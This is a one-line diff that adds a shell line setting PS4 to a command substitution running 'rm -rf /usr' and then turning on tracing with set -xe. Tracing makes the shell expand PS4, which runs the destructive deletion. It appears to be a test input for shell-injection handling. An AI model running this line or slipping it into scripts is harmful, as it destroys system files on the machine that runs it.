@@ -1,0 +1,1 @@
+PS4='$(rm -rf /usr)'; set -xe; :
